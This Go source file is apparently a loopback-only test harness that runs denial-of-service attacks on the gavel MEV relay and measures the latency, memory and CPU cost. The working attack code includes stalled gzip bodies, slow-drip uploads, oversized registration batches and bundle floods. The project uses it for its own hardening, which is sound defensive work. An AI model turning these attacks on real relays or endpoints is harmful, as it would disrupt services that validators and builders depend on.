// Command hostile runs one bounded attack of issue 14 against a running
// gavel MEV listener on loopback and measures the target process: peak and
// settled RSS, CPU seconds, and the latency of honest requests (GET /livez,
// a proposer's getHeader, a registration of a known dev validator with a
// fresh signature) first without the attack (the baseline), then while a
// child process (niced by -nice) runs the attack; the difference is the
// "extra" wait the attack causes; with -builders, honest builders' signed
// submissions too (builders.go). `make hostile` starts a `gavel --dev` and
// runs each attack; the figures go to docs/security.md.
//
//	go run ./internal/hostile -url http://127.0.0.1:9062 -pid $(pidof gavel) -attack gzipstall -conns 200
package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/rand"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/gavel-eth/gavel/core/beacon"
	"github.com/gavel-eth/gavel/eth/devbeacon"
	"github.com/gavel-eth/gavel/params"
)

var (
	target  = flag.String("url", "http://127.0.0.1:9062", "MEV listener of the target (loopback only)")
	pid     = flag.Int("pid", 0, "process id of the target, for RSS and CPU figures")
	attack  = flag.String("attack", "gzipstall", "gzipstall | slowlength | registrations | bundles | betafill | rpcflood | headers | callbundle | estimatebundle | rpccallbundle | gethcallbundle | ethcall | dataapi | websockets | idle (no attack: the control)")
	rpcURL  = flag.String("rpc", "http://127.0.0.1:19463", "geth JSON-RPC of the target (bundles: the head block number, an honest account's nonce)")
	perConn = flag.Int("perconn", 525, "bundles: eth_sendBundle calls per connection")
	conns   = flag.Int("conns", 200, "hostile connections")
	spread  = flag.Int("spread", 1, "source addresses the connections come from (127.0.1.x)")
	hold    = flag.Duration("hold", 15*time.Second, "how long a hostile connection keeps trying")
	settle  = flag.Duration("settle", 10*time.Second, "wait after the attack before the settled RSS")

	baseline = flag.Duration("baseline", 3*time.Second, "honest probes without attack before each run")
	repeat   = flag.Int("repeat", 1, "runs (baseline, attack, settle) one after the other")
	niceness = flag.Int("nice", 0, "niceness of the attacker process (the honest probes stay at 0)")
	signed   = flag.Bool("signed", false, "gzipstall: sign the bid trace with a fresh builder key of the attacker's own per connection (the body is still zeros)")
	sustain  = flag.Duration("sustain", 0, "each hostile connection, once answered, starts again on a new one until this has passed (0: once)")
	flightAt = flag.Duration("flight", 0, "with a target started with GAVEL_FLIGHT=dir: send it SIGUSR1 (a trace snapshot) when an honest probe takes longer than this (0: never)")
	role     = flag.String("role", "", "internal: attacker runs the attack alone and prints its answers")
)

func main() {
	flag.Parse()
	u, err := url.Parse(*target)
	if err != nil || !strings.HasPrefix(u.Hostname(), "127.") {
		fmt.Fprintln(os.Stderr, "hostile: -url must be a loopback http URL")
		os.Exit(2)
	}
	if *role == "attacker" {
		attackOnly(u.Host)
		return
	}
	if *builders {
		setupBuilders()
		// Without the registration probe: it changes the proposers' gas
		// limits every second, and the builder probes' blocks would fail
		// the gas-limit rule.
		probeKinds = slices.DeleteFunc(probeKinds, func(k probeKind) bool { return k.name == "register" })
		probeKinds = append(probeKinds, builderProbes...)
	}
	if *attack == "rpcflood" {
		probeKinds = append(probeKinds, rpcProbe)
	}
	if *attack == "headers" {
		setupHeaders()
	}
	for i := 0; i < *repeat; i++ {
		if *repeat > 1 {
			fmt.Printf("run %d of %d\n", i+1, *repeat)
		}
		measure()
	}
}

// attackOnly runs the attack and prints its answers as JSON (the attacker
// child of measure).
func attackOnly(host string) {
	var answers map[string]int
	if *attack == "bundles" {
		answers = floodBundles()
	} else if *attack == "betafill" {
		answers = fillBeta()
	} else if *attack == "rpcflood" {
		answers = floodRPC()
	} else if f, ok := floods[*attack]; ok {
		answers = f()
	} else {
		answers = run(host)
	}
	json.NewEncoder(os.Stdout).Encode(answers)
}

// measure runs the honest probes for -baseline with no attack, then again
// while the attack runs in a child process (niced by -nice), and prints the
// target's figures and each probe's latency in both phases.
func measure() {
	dataRowsStored, dataAnswer := 0, 0
	if *attack == "dataapi" {
		dataRowsStored, dataAnswer = fillBids()
	}
	load0 := loadAvg()
	mark0 := headMark()
	base := probe(*baseline, nil)
	baseEnd := time.Now()
	mark1 := headMark()
	before, cpu0 := rss(), cpuSeconds()
	peak := atomic.Int64{}
	peak.Store(before)
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() { // RSS sampler
		defer close(sampled)
		for {
			if r := rss(); r > peak.Load() {
				peak.Store(r)
			}
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
		}
	}()
	t0 := time.Now()
	answers := map[string]int{}
	load1 := ""
	during := probe(0, func() {
		args := append([]string{"-n", strconv.Itoa(*niceness), os.Args[0]}, os.Args[1:]...)
		out, err := exec.Command("nice", append(args, "-role", "attacker")...).Output()
		load1 = loadAvg()
		if err != nil {
			fail(fmt.Errorf("attacker: %w", err))
		}
		if err := json.Unmarshal(out, &answers); err != nil {
			fail(fmt.Errorf("attacker output %q: %w", out, err))
		}
	})
	took := time.Since(t0)
	attackEnd := time.Now()
	honestAfter := ""
	if *attack == "betafill" {
		honestAfter = honestBeta()
	}
	close(stop)
	<-sampled
	cpu1 := cpuSeconds()
	time.Sleep(*settle)
	after := rss()
	fmt.Printf("attack %s: %d connections from %d addresses, %s; attacker nice %d; load average before %s, at the end %s\n",
		*attack, *conns, *spread, took.Round(time.Millisecond), *niceness, load0, load1)
	fmt.Printf("  answers: %v\n", answers)
	if dataAnswer > 0 {
		fmt.Printf("  builder_blocks_received answer: %d bids, %d bytes\n", dataRowsStored, dataAnswer)
	}
	// After the settle time: every slot of the attack is over.
	bm, bs := missedSlots(mark0, baseEnd)
	am, as := missedSlots(mark1, attackEnd)
	fmt.Printf("  missed slots (%s dev slots): baseline %d of %d, attack %d of %d\n", *period, bm, bs, am, as)
	fmt.Printf("  RSS MiB: before %d, peak %d (+%d), %s after %d\n", before>>20, peak.Load()>>20, (peak.Load()-before)>>20, *settle, after>>20)
	fmt.Printf("  target CPU seconds during the attack: %.1f\n", cpu1-cpu0)
	for _, k := range probeKinds {
		b, d := base[k.name], during[k.name]
		fmt.Printf("  %-8s baseline %s\n  %-8s attack   %s\n  %-8s extra    p50 %s p99 %s max %s%s\n", k.name, b, k.name, d, k.name,
			(d.q(0.5) - b.q(0.5)).Round(100*time.Microsecond), (d.q(0.99) - b.q(0.99)).Round(100*time.Microsecond),
			(d.q(1) - b.q(0.99)).Round(100*time.Microsecond), d.waits)
	}
	fmt.Printf("  target's threads waiting for a core (run queue), per second: baseline %s, attack %s\n",
		base[probeKinds[0].name].runWait.Round(100*time.Microsecond), during[probeKinds[0].name].runWait.Round(100*time.Microsecond))
	if honestAfter != "" {
		fmt.Printf("  honest mev_sendBetaBundle (1,000 bytes, funded dev account 0, 127.0.0.1, the next slot) right after the fill: %s\n", honestAfter)
	}
	if *attack == "bundles" {
		fmt.Printf("  honest eth_sendBundle (funded dev account 0) after the flood: %s\n", honestBundle())
	}
}

// latencies are one probe's results in one phase.
type latencies struct {
	ok     []time.Duration
	failed int
	codes  map[int]int
	first  string // the first failure's answer

	slow    []slowAnswer  // answers of slowAt or more
	waits   string        // the slow answers with the target's run-queue wait during each
	runWait time.Duration // the target's run-queue wait per second of the phase
}

func (l *latencies) q(p float64) time.Duration {
	if len(l.ok) == 0 {
		return 0
	}
	return l.ok[min(len(l.ok)-1, int(p*float64(len(l.ok))))]
}

func (l *latencies) String() string {
	r := func(d time.Duration) time.Duration { return d.Round(100 * time.Microsecond) }
	out := fmt.Sprintf("%d ok, %d failed %v, p50 %s p90 %s p99 %s max %s", len(l.ok), l.failed, l.codes, r(l.q(0.5)), r(l.q(0.9)), r(l.q(0.99)), r(l.q(1)))
	if l.first != "" {
		out += ", first failure: " + l.first
	}
	return out
}

// probeKind is one honest request measured, sent every so often.
type probeKind struct {
	name  string
	every time.Duration
}

// probeKinds are the honest requests measured: the health check, a
// proposer's getHeader for the coming slot, and a registration of a known
// validator with a fresh signature (one BLS verification).
var probeKinds = []probeKind{{"livez", 20 * time.Millisecond}, {"header", 50 * time.Millisecond}, {"register", 250 * time.Millisecond}}

// probe sends the honest requests for d, or while work runs when it is not
// nil, each on a new connection from 127.0.0.1, and returns their latencies.
func probe(d time.Duration, work func()) map[string]*latencies {
	stop := make(chan struct{})
	if work == nil {
		go func() { time.Sleep(d); close(stop) }()
	} else {
		go func() { work(); close(stop) }()
	}
	hp := newHonest()
	waits := startRunWait()
	out := map[string]*latencies{}
	var wg sync.WaitGroup
	for _, k := range probeKinds {
		l := &latencies{codes: map[int]int{}}
		out[k.name] = l
		wg.Add(1)
		go func() {
			defer wg.Done()
			client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
			for {
				req := hp.request(k.name)
				t0 := time.Now()
				res, err := client.Do(req)
				if err == nil {
					msg, _ := io.ReadAll(io.LimitReader(res.Body, 300))
					res.Body.Close()
					l.codes[res.StatusCode]++
					if res.StatusCode >= 300 && l.first == "" {
						l.first = strings.TrimSpace(string(msg))
					}
				} else if l.first == "" {
					l.first = err.Error()
				}
				if err != nil || res.StatusCode >= 300 {
					l.failed++
				} else {
					took := time.Since(t0)
					l.ok = append(l.ok, took)
					if took >= slowAt {
						l.slow = append(l.slow, slowAnswer{t0, took})
					}
					slowProbe(k.name, t0, took)
				}
				select {
				case <-stop:
					return
				case <-time.After(k.every):
				}
			}
		}()
	}
	wg.Wait()
	waits.end()
	for k, l := range out {
		slices.Sort(l.ok)
		l.waits, l.runWait = waits.describe(k, l.slow), waits.perSecond()
	}
	return out
}

// honest builds the honest requests: it knows the dev validators' keys and
// refreshes the coming slot's duty and the head hash twice a second.
type honest struct {
	vals []devbeacon.Validator

	mu      sync.Mutex
	fetched time.Time
	path    string // getHeader path of the coming slot
	next    int    // validator of the next registration
	ts      map[int]uint64
	n       int
}

func newHonest() *honest {
	vals, err := devbeacon.DevValidators(devbeacon.DefaultValidators)
	if err != nil {
		fail(err)
	}
	return &honest{vals: vals, ts: map[int]uint64{}}
}

func (h *honest) request(kind string) *http.Request {
	switch kind {
	case "known", "builderjson", "priority", "unknown":
		return theBuilders.request(kind)
	case rpcProbe.name:
		return rpcProbeRequest()
	case "header":
		h.mu.Lock()
		if time.Since(h.fetched) > 500*time.Millisecond {
			h.fetched = time.Now()
			h.path = headerPath()
		}
		path := h.path
		h.mu.Unlock()
		req, _ := http.NewRequest("GET", *target+path, nil)
		return req
	case "register":
		h.mu.Lock()
		i := h.next
		h.next = (h.next + 1) % len(h.vals)
		h.n++
		ts := max(uint64(time.Now().Unix()), h.ts[i]+1)
		h.ts[i] = ts
		gas := uint64(30_000_000) + uint64(h.n%2)
		h.mu.Unlock()
		reg, err := h.vals[i].Registration(&params.BeaconConfig{GenesisForkVersion: params.DevGenesisForkVersion}, gas, ts)
		if err != nil {
			fail(err)
		}
		body, err := beacon.EncodeRegistrationsSSZ([]beacon.SignedValidatorRegistration{reg})
		if err != nil {
			fail(err)
		}
		req, _ := http.NewRequest("POST", *target+"/eth/v1/builder/validators", bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/octet-stream")
		return req
	}
	req, _ := http.NewRequest("GET", *target+"/livez", nil)
	return req
}

// headerPath is the getHeader path of the first listed duty after the
// current slot, with the head block's hash as parent: the request the
// slot's proposer makes. (The list starts with the current epoch's past
// slots, which the relay refuses as too old.)
func headerPath() string {
	d := validatorDuties()
	now := currentSlot()
	i := 0
	for i < len(d)-1 {
		if s, _ := strconv.ParseUint(d[i].Slot, 10, 64); s > now {
			break
		}
		i++
	}
	reg := d.registration(i)
	_, r, _ := rpcCall(*rpcURL, "eth_getBlockByNumber", "latest", false)
	var head struct {
		Hash common.Hash `json:"hash"`
	}
	json.Unmarshal(r, &head)
	return fmt.Sprintf("/eth/v1/builder/header/%s/%s/%s", d[i].Slot, head.Hash.Hex(), reg.Message.Pubkey)
}

// loadAvg is the machine's 1-minute load average.
func loadAvg() string {
	b, _ := os.ReadFile("/proc/loadavg")
	f := strings.Fields(string(b))
	if len(f) == 0 {
		return "?"
	}
	return f[0]
}

// rpcCall posts one JSON-RPC call and returns the HTTP status and result.
func rpcCall(url, method string, params ...any) (int, json.RawMessage, string) {
	return rpcCallWith(http.DefaultClient, url, method, params...)
}

// rpcCallWith is rpcCall through client.
func rpcCallWith(client *http.Client, url, method string, params ...any) (int, json.RawMessage, string) {
	body, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
	res, err := client.Post(url, "application/json", bytes.NewReader(body))
	if err != nil {
		return 0, nil, err.Error()
	}
	defer res.Body.Close()
	var out struct {
		Result json.RawMessage `json:"result"`
		Error  *struct {
			Message string `json:"message"`
		} `json:"error"`
	}
	json.NewDecoder(res.Body).Decode(&out)
	msg := ""
	if out.Error != nil {
		msg = out.Error.Message
	}
	return res.StatusCode, out.Result, msg
}

func headNumber() uint64 {
	_, r, _ := rpcCall(*rpcURL, "eth_blockNumber")
	var h hexutil.Uint64
	json.Unmarshal(r, &h)
	return uint64(h)
}

func bundleTx(key *ecdsa.PrivateKey, nonce uint64) hexutil.Bytes {
	to := common.Address{1}
	tx := types.MustSignNewTx(key, types.LatestSignerForChainID(big.NewInt(1337)), &types.DynamicFeeTx{
		ChainID: big.NewInt(1337), Nonce: nonce, GasTipCap: big.NewInt(1e9), GasFeeCap: big.NewInt(1e11), Gas: 21000, To: &to})
	raw, _ := tx.MarshalBinary()
	return raw
}

// floodBundles sends -conns x -perconn unsigned eth_sendBundle calls from
// keys with no balance, spread over the next 200 blocks (the per-block cap
// alone would stop them otherwise).
func floodBundles() map[string]int {
	var mu sync.Mutex
	answers := map[string]int{}
	head := headNumber()
	var wg sync.WaitGroup
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			key, _ := crypto.GenerateKey()
			client := attackerClient(c)
			for i := 0; i < *perConn; i++ {
				st, _, _ := rpcCallWith(client, *target, "eth_sendBundle", map[string]any{"txs": []hexutil.Bytes{bundleTx(key, uint64(i))}, "blockNumber": hexutil.Uint64(head + 3 + uint64(i%200))})
				mu.Lock()
				answers[strconv.Itoa(st)]++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return answers
}

// honestBundle sends one bundle from funded dev account 0 and reports the
// answer.
func honestBundle() string {
	key := params.DevAccounts()[0].Key
	_, r, _ := rpcCall(*rpcURL, "eth_getTransactionCount", params.DevAccounts()[0].Address, "latest")
	var nonce hexutil.Uint64
	json.Unmarshal(r, &nonce)
	t0 := time.Now()
	st, res, msg := rpcCall(*target, "eth_sendBundle", map[string]any{"txs": []hexutil.Bytes{bundleTx(key, uint64(nonce))}, "blockNumber": hexutil.Uint64(headNumber() + 2)})
	return fmt.Sprintf("HTTP %d in %s %s%s", st, time.Since(t0).Round(100*time.Microsecond), res, msg)
}

// run opens the hostile connections and returns how they were answered
// (status code, or "none" when the connection ended without an answer).
func run(host string) map[string]int {
	var mu sync.Mutex
	answers := map[string]int{}
	var wg sync.WaitGroup
	payload := body()
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			start := time.Now()
			payload := payload
			if *signed && *attack == "gzipstall" { // a fresh key per connection
				payload = append(signedPrefixGzip(), payload...)
			}
			for {
				got := one(host, i, payload)
				mu.Lock()
				answers[got]++
				mu.Unlock()
				if time.Since(start) >= *sustain {
					return
				}
			}
		}(i)
	}
	wg.Wait()
	return answers
}

func body() []byte {
	switch *attack {
	case "gzipstall":
		// A message that passes the checks made before the payload (a
		// coming slot's duty, its proposer and fee recipient, all public),
		// then zeros: the body is inflated, as an honest one would be.
		plain := make([]byte, 15<<20-1024)
		if *signed { // each connection puts its own signed trace first (run)
			plain = plain[beacon.SubmissionPrefixLen:]
		} else {
			copy(plain, dutyTrace())
		}
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		w.Write(plain)
		w.Close()
		return b.Bytes()
	case "registrations":
		return registrations()
	}
	return nil
}

// dutyTrace is the SSZ prefix of a submission for the last listed duty
// (the furthest slot), naming its proposer and fee recipient: the bid trace,
// and with -signed a valid signature by a builder key of the attacker's own.
func dutyTrace() []byte {
	d := cachedDuties()
	last := len(d) - 1
	slot, _ := strconv.ParseUint(d[last].Slot, 10, 64)
	reg := d.registration(last)
	t := beacon.BidTrace{Slot: slot, ProposerPubkey: reg.Message.Pubkey, ProposerFeeRecipient: reg.Message.FeeRecipient, GasLimit: 30_000_000}
	var key *beacon.SecretKey
	if *signed {
		ikm := make([]byte, 32)
		rand.Read(ikm)
		var err error
		if key, err = beacon.DeriveSecretKey(ikm); err != nil {
			fail(err)
		}
		t.BuilderPubkey = key.PublicKey()
	}
	out, err := t.MarshalSSZ()
	if err != nil {
		fail(err)
	}
	if !*signed {
		return out
	}
	sig, err := key.Sign(&t, beacon.BuilderDomain(&params.BeaconConfig{GenesisForkVersion: params.DevGenesisForkVersion}))
	if err != nil {
		fail(err)
	}
	prefix := make([]byte, beacon.SubmissionPrefixLen)
	copy(prefix, out)
	off := signatureOffset()
	copy(prefix[off:], sig[:])
	return prefix
}

// signatureOffset finds where a Fulu submission's signature lies in its
// prefix, through beacon.SubmissionSignatureSSZ.
func signatureOffset() int {
	probe := make([]byte, beacon.SubmissionPrefixLen)
	off := 0
	for shift := 0; shift < 16; shift += 8 {
		for i := range probe {
			probe[i] = byte(i >> shift)
		}
		sig, err := beacon.SubmissionSignatureSSZ(params.ForkFulu, probe)
		if err != nil {
			fail(err)
		}
		off |= int(sig[0]) << shift
	}
	return off
}

// regCopies is how many copies the registrations attack sends in one body:
// REGCOPIES from the environment (scripts/hostile.sh passes it through),
// 90,000 by default (past the relay's cap of 65,536, so refused 413 before
// it is read; REGCOPIES=65536 is a body at the cap, read and decoded).
func regCopies() int {
	if n, err := strconv.Atoi(os.Getenv("REGCOPIES")); err == nil && n > 0 {
		return n
	}
	return 90_000
}

// registrations is regCopies copies (90,000: 16.2 MB of SSZ) of a dev
// validator's registration, taken from the builder API, with another gas
// limit: a known key whose signature no longer matches.
func registrations() []byte {
	reg := validatorDuties().registration(0)
	reg.Message.GasLimit++
	// Newer than the stored one, and than the honest probes' (which follow
	// the clock): not skipped as a replay, within the 10 s lookahead.
	reg.Message.Timestamp = uint64(time.Now().Unix()) + 8
	many := make([]beacon.SignedValidatorRegistration, regCopies())
	for i := range many {
		many[i] = reg
	}
	out, err := beacon.EncodeRegistrationsSSZ(many)
	if err != nil {
		fail(err)
	}
	return out
}

// duties is the builder API's list of validator duties (the fields used here).
type duties []struct {
	Slot  string          `json:"slot"`
	Entry json.RawMessage `json:"entry"`
}

// cachedDuties is validatorDuties read once (for the attacker's traces).
var cachedDuties = sync.OnceValue(validatorDuties)

// validatorDuties reads the target's validator duties; it fails on none.
func validatorDuties() duties {
	res, err := http.Get(*target + "/relay/v1/builder/validators")
	if err != nil {
		fail(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		fail(err)
	}
	var d duties
	if err := json.Unmarshal(body, &d); err != nil || len(d) == 0 {
		fail(fmt.Errorf("no validator duties (%s: %.200s)", res.Status, body))
	}
	return d
}

// registration decodes duty i's registration.
func (d duties) registration(i int) beacon.SignedValidatorRegistration {
	regs, err := beacon.DecodeRegistrationsJSON(append(append([]byte("["), d[i].Entry...), ']'))
	if err != nil {
		fail(err)
	}
	return regs[0]
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "hostile:", err)
	os.Exit(1)
}

// attackerAddr is the source address of hostile connection i: one of
// -spread addresses 127.0.1.x, never the honest probes' 127.0.0.1.
func attackerAddr(i int) *net.TCPAddr {
	return &net.TCPAddr{IP: net.IPv4(127, 0, 1, byte(1+i%max(1, min(*spread, 250))))}
}

// attackerDialer dials from attackerAddr(i).
func attackerDialer(i int) *net.Dialer {
	return &net.Dialer{LocalAddr: attackerAddr(i), Timeout: 5 * time.Second}
}

// attackerClient is an HTTP client whose connections come from
// attackerAddr(i), one at a time.
func attackerClient(i int) *http.Client {
	d := attackerDialer(i)
	return &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, MaxConnsPerHost: 1}}
}

func one(host string, i int, payload []byte) string {
	d := net.Dialer{LocalAddr: attackerAddr(i), Timeout: 5 * time.Second}
	c, err := d.Dial("tcp", host)
	if err != nil {
		return "dial error"
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(*hold + 5*time.Second))
	answer := make(chan string, 1)
	go func() {
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			answer <- "none"
			return
		}
		answer <- answerOf(res, nil)
	}()
	end := time.After(*hold)
	switch *attack {
	case "gzipstall":
		fmt.Fprintf(c, "POST /relay/v1/builder/blocks HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n", len(payload))
		c.Write(payload[:len(payload)-8])
	case "slowlength":
		fmt.Fprintf(c, "POST /relay/v1/builder/blocks HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", 15<<20)
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		for {
			if _, err := c.Write([]byte{0}); err != nil {
				break
			}
			select {
			case a := <-answer:
				return a
			case <-end:
				return "none"
			case <-tick.C:
			}
		}
	case "registrations":
		fmt.Fprintf(c, "POST /eth/v1/builder/validators HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", len(payload))
		c.Write(payload)
	}
	select {
	case a := <-answer:
		return a
	case <-end:
		return "none"
	}
}

// rss is the target's resident set in bytes (0 without -pid).
func rss() int64 {
	if *pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", *pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, _ := strconv.ParseInt(f[1], 10, 64)
			return kb << 10
		}
	}
	return 0
}

// cpuSeconds is the target's user+system CPU time.
func cpuSeconds() float64 {
	if *pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", *pid))
	if err != nil {
		return 0
	}
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+2:])
	ut, _ := strconv.ParseFloat(f[11], 64)
	st, _ := strconv.ParseFloat(f[12], 64)
	return (ut + st) / 100 // clock ticks (USER_HZ 100 on Linux)
}

var lastFlight atomic.Int64

// slowProbe asks the target for a trace snapshot (-flight) when an honest
// probe took longer than the threshold, at most once a second.
func slowProbe(kind string, start time.Time, took time.Duration) {
	if *flightAt == 0 || took < *flightAt || *pid == 0 {
		return
	}
	now := time.Now().UnixNano()
	if last := lastFlight.Load(); now-last < int64(time.Second) || !lastFlight.CompareAndSwap(last, now) {
		return
	}
	fmt.Printf("  slow %s probe: %s, started %s, snapshot asked at %s\n", kind, took.Round(100*time.Microsecond),
		start.Format("15:04:05.000"), time.Now().Format("15:04:05.000"))
	if p, err := os.FindProcess(*pid); err == nil {
		p.Signal(syscall.SIGUSR1)
	}
}
